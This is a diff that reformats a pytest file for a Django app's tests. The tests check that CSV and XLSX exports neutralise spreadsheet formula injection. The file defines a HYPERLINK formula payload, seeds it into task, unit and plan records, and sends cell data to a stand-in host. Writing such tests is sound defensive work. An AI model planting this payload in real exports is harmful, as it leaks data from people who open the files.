@@ -22,7 +22,9 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
 
 
 def _csv_cells(response: object) -> list[str]:
-    content = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content  # type: ignore[attr-defined]
+    content = (
+        b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
+    )  # type: ignore[attr-defined]
     text = content.decode("utf-8")
     assert text.startswith("\ufeff"), "the CSV keeps its BOM"
     return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
@@ -54,8 +56,15 @@ def poisoned(demo: DemoSummary) -> DemoSummary:
     lead = lead_assignment("energy")
     Unit.objects.filter(pk=lead.unit_id).update(name=EVIL)
     Task.objects.filter(pk=lead.task_id).update(title=EVIL)
-    Indicator.objects.create(task=lead.task, name=EVIL, unit_of_measure="-1", baseline=-5, target=10,
-                             baseline_date=dt.date(2026, 1, 1), target_date=dt.date(2026, 12, 31))
+    Indicator.objects.create(
+        task=lead.task,
+        name=EVIL,
+        unit_of_measure="-1",
+        baseline=-5,
+        target=10,
+        baseline_date=dt.date(2026, 1, 1),
+        target_date=dt.date(2026, 12, 31),
+    )
     PlanTask.objects.filter(plan=demo.plan).update(title=EVIL)
     return demo
 
@@ -86,12 +95,15 @@ XLSX_EXPORTS = [
 
 
 def _url(template: str, demo: DemoSummary) -> str:
-    return template.format(task=lead_assignment("energy").task_id, document=demo.document.pk, plan=demo.plan.pk)
+    return template.format(
+        task=lead_assignment("energy").task_id, document=demo.document.pk, plan=demo.plan.pk
+    )
 
 
 @pytest.mark.parametrize(("template", "shows_names"), CSV_EXPORTS)
-def test_every_csv_export_neutralises_formulas(template: str, shows_names: bool, poisoned: DemoSummary,
-                                                login: Callable[[str], Client]) -> None:
+def test_every_csv_export_neutralises_formulas(
+    template: str, shows_names: bool, poisoned: DemoSummary, login: Callable[[str], Client]
+) -> None:
     response = login("duchashi").get(_url(template, poisoned))
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     cells = _csv_cells(response)
@@ -101,8 +113,9 @@ def test_every_csv_export_neutralises_formulas(template: str, shows_names: bool,
 
 
 @pytest.mark.parametrize("template", XLSX_EXPORTS)
-def test_every_xlsx_export_keeps_formulas_as_quoted_text(template: str, poisoned: DemoSummary,
-                                                        login: Callable[[str], Client]) -> None:
+def test_every_xlsx_export_keeps_formulas_as_quoted_text(
+    template: str, poisoned: DemoSummary, login: Callable[[str], Client]
+) -> None:
     client = login("duchashi")
     method, _, template = template.rpartition(" ")
     response = (client.post if method == "POST" else client.get)(_url(template, poisoned))
@@ -112,6 +125,13 @@ def test_every_xlsx_export_keeps_formulas_as_quoted_text(template: str, poisoned
 
 
 def test_a_negative_number_stays_a_number(poisoned: DemoSummary, login: Callable[[str], Client]) -> None:
-    rows = list(csv.reader(io.StringIO(login("duchashi").get(
-        _url("/tasks/{task}/indicators.csv", poisoned)).content.decode("utf-8-sig"))))
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                login("duchashi")
+                .get(_url("/tasks/{task}/indicators.csv", poisoned))
+                .content.decode("utf-8-sig")
+            )
+        )
+    )
     assert rows[1][0] == "'" + EVIL and rows[1][1] == "-1"
